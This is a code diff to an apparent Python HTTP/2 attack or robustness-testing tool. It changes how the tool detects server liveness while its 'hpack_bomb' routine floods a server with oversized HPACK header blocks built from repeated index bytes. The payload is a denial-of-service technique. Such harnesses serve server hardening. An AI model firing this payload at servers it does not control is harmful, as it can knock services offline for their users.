@@ -32,7 +32,7 @@ class Attacker:
         self.said = {"end": "alive", "code": None, "text": "", "sent": 0}
         self.resets, self.statuses = collections.Counter(), collections.Counter()
         self.decoder, self.stream, self.is_over = hpack.Decoder(max_header_list_size=1 << 20), 1, threading.Event()
-        self.pong, self.on_data = threading.Event(), lambda stream, n: None
+        self.answer, self.on_data = threading.Event(), lambda stream, n: None
         self.sock.sendall(h2.PREFACE + h2.settings(**settings))
         threading.Thread(target=self.read, daemon=True).start()
 
@@ -64,7 +64,7 @@ class Attacker:
             if self.said["end"] == "alive":
                 self.said["end"] = "closed"
             self.is_over.set()
-            self.pong.set()
+            self.answer.set()
 
     def on_frame(self, kind, flags, stream, payload):
         if kind == h2.GOAWAY:
@@ -75,10 +75,9 @@ class Attacker:
             self.resets[h2.error_name(struct.unpack(">L", payload)[0])] += 1
         elif kind == h2.HEADERS:
             self.statuses[dict(self.decoder.decode(payload)).get(":status")] += 1
+            self.answer.set()
         elif kind == h2.DATA:
             self.on_data(stream, len(payload))
-        elif kind == h2.PING and flags & h2.ACK and payload == b"are you?":
-            self.pong.set()
 
     # --- what goes ---
 
@@ -93,15 +92,6 @@ class Attacker:
         except OSError:
             pass  # the reader says how it ended
         return self.is_over.wait(10)
-
-    def ask_for_life(self):
-        """Waits until the server has seen all that was sent, or is gone."""
-        self.pong.clear()
-        try:
-            self.sock.sendall(h2.frame(h2.PING, 0, 0, b"are you?"))
-        except OSError:
-            pass
-        assert self.pong.wait(60), "the server does not answer any more"
 
     def report(self):
         print(json.dumps({**self.said, "resets": self.resets, "statuses": self.statuses}), flush=True)
@@ -161,10 +151,10 @@ def hpack_bomb(attacker):
     for _ in range(20):
         stream = attacker.new_stream()
         block = fields + insert + b"\xbe" * 12000
+        attacker.answer.clear()
         attacker.sock.sendall(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, block))
         attacker.said["sent"] += 1
-        attacker.ask_for_life()
-        if attacker.is_over.is_set():
+        if not attacker.answer.wait(60) or attacker.is_over.is_set():
             return
 
 
